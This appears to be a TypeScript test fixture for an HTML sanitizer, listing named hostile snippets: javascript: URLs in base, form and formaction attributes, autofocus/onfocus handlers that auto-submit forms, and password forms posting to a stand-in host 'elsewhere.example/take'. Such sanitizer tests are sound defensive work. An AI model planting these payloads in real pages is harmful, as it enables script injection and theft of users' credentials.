import type { HostileHtml } from "./types";

// Forms that send elsewhere, fields that ask for secrets, and a base that moves every address.

export const formsAndBase = {
  "base-elsewhere": `<base href="https://elsewhere.example/"><img src="moved" alt=""><a href="/contact">Contact</a>`,
  "base-script": `<base href="javascript:/"><a href="#/;ran('base-script')">Read</a>`,
  "base-target": `<base target="_blank"><a href="/contact">Contact</a>`,
  "base-in-head": `<head><base href="//elsewhere.example/"></head><p>Text</p><link rel="stylesheet" href="moved.css">`,
  "form-elsewhere": `<form action="https://elsewhere.example/take" method="post"><input name="password" type="password" autocomplete="current-password"><button>Sign in</button></form>`,
  "form-script": `<form action="javascript:ran('form-script')"><input type="submit" value="Send"></form>`,
  "form-of-a-button": `<form><button formaction="javascript:ran('form-of-a-button')">Send</button></form>`,
  "form-of-an-image": `<form><input type="image" formaction="https://elsewhere.example/take" src="/icons/icon-192.png" alt="Send"></form>`,
  "form-from-afar": `<button form="far" type="submit">Send</button><form id="far" action="https://elsewhere.example/take" target="_self"></form>`,
  "form-of-the-page": `<form id="callback" action="https://elsewhere.example/take"></form><input form="callback" name="email" value="x"><button form="callback">Send</button>`,
  "form-by-enter": `<form action="https://elsewhere.example/take"><input autofocus value="x" onfocus="this.form.submit()"></form>`,
  "form-of-old": `<isindex type="image" src="https://elsewhere.example/isindex" action="javascript:ran('form-of-old')" onerror="ran('form-of-old')">`,
  "form-of-a-key": `<keygen autofocus onfocus="ran('form-of-a-key')"><output onclick="ran('form-of-a-key')">Text</output><meter onclick="ran('form-of-a-key')" value=1>Text</meter>`,
  "field-that-asks": `<label>Your password <input type="password" name="password"></label><textarea onfocus="ran('field-that-asks')" autofocus>Text</textarea>`,
  "select-that-asks": `<select autofocus onfocus="ran('select-that-asks')" onchange="ran('select-that-asks')"><option>One<option onclick="ran('select-that-asks')">Two</select>`,
  "form-that-never-ends": `<form action="https://elsewhere.example/take"><p>Text</p><button>Send</button>`,
} satisfies HostileHtml;
